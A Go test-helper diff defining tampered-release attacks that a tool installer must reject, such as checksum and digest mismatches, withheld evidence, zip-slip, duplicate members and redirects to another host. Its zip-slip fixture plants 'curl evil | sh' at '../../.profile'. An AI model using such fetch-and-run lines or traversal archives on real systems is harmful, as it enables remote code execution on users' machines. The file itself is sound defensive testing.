@@ -257,3 +257,92 @@ func zipped(t testing.TB, members []Member) []byte {
 	}
 	return buf.Bytes()
 }
+
+// Attack is one way a release, its evidence or its version source can lie.
+type Attack struct {
+	Name string
+	// Members, when set, builds the archive's members instead of the
+	// honest ones (archive tools only); the evidence then vouches for
+	// that archive, as a compromised release's would.
+	Members func(a catalog.Artifact, program []byte) []Member
+	// Apply breaks what Publish put up.
+	Apply func(o *Origin, tool *catalog.Tool, pub Published)
+}
+
+// AppliesTo reports whether the attack can be made on tool's file a.
+func (at Attack) AppliesTo(tool *catalog.Tool, a catalog.Artifact) bool {
+	switch at.Name {
+	case "API digest mismatch":
+		return a.Proofs[0].Kind == catalog.GitHubAssetDigest
+	case "version redirect to another host":
+		return tool.Versions.Kind == catalog.VersionReleaseRedirect
+	}
+	return at.Members == nil || a.Archive != catalog.Raw
+}
+
+// Attacks lists every attack the tools' installs must refuse.
+func Attacks() []Attack {
+	return []Attack{
+		{Name: "checksum mismatch", Apply: func(o *Origin, tool *catalog.Tool, pub Published) {
+			swapped := slices.Clone(pub.File)
+			swapped[len(swapped)-1] ^= 1
+			o.Put(pub.Artifact.URL, swapped)
+		}},
+		{Name: "evidence withheld", Apply: func(o *Origin, tool *catalog.Tool, pub Published) {
+			for _, pr := range pub.Artifact.Proofs {
+				if pr.Kind == catalog.GitHubAssetDigest {
+					o.SetAssetDigest(pr.Repo, pub.Artifact.Version, pr.Asset, "")
+				} else {
+					o.Remove(pr.At)
+				}
+			}
+		}},
+		{Name: "API digest mismatch", Apply: func(o *Origin, tool *catalog.Tool, pub Published) {
+			other := sha256.Sum256([]byte("another file"))
+			for _, pr := range pub.Artifact.Proofs {
+				o.SetAssetDigest(pr.Repo, pub.Artifact.Version, pr.Asset, "sha256:"+hex.EncodeToString(other[:]))
+			}
+		}},
+		{Name: "malformed digest", Apply: func(o *Origin, tool *catalog.Tool, pub Published) {
+			for _, pr := range pub.Artifact.Proofs {
+				if pr.Kind == catalog.GitHubAssetDigest {
+					o.SetAssetDigest(pr.Repo, pub.Artifact.Version, pr.Asset, "md5:abc")
+				} else {
+					o.Put(pr.At, []byte("<html>not found</html>"))
+				}
+			}
+		}},
+		{Name: "zip-slip member", Members: func(a catalog.Artifact, program []byte) []Member {
+			return []Member{{a.Member, program}, {"../../.profile", []byte("curl evil | sh")}}
+		}},
+		{Name: "two programs of that name", Members: func(a catalog.Artifact, program []byte) []Member {
+			return []Member{{a.Member, program}, {a.Member, []byte("evil")}}
+		}},
+		{Name: "program elsewhere in the archive", Members: func(a catalog.Artifact, program []byte) []Member {
+			return []Member{{"other/" + a.Program, program}}
+		}},
+		{Name: "version redirect to another host", Apply: func(o *Origin, tool *catalog.Tool, pub Published) {
+			// A loopback host that is not the mirror: plain http to it
+			// passes the URL policy, so only the redirect check stops it.
+			evil := httptest.NewServer(http.NotFoundHandler())
+			evil.Close()
+			o.Redirect(tool.Versions.URL, catalog.Mirrored(evil.URL, strings.TrimSuffix(tool.Versions.URL, "latest")+"tag/"+pub.Artifact.Version))
+		}},
+	}
+}
+
+// PublishAttacked publishes tool's release tag for p as latest, with at
+// made on it.
+func (o *Origin) PublishAttacked(t testing.TB, tool *catalog.Tool, tag string, p catalog.Platform, program []byte, at Attack) Published {
+	t.Helper()
+	var members []Member
+	if at.Members != nil {
+		a, _ := tool.Artifact(tag, p)
+		members = at.Members(a, program)
+	}
+	pub := o.Publish(t, tool, tag, p, program, true, members)
+	if at.Apply != nil {
+		at.Apply(o, tool, pub)
+	}
+	return pub
+}
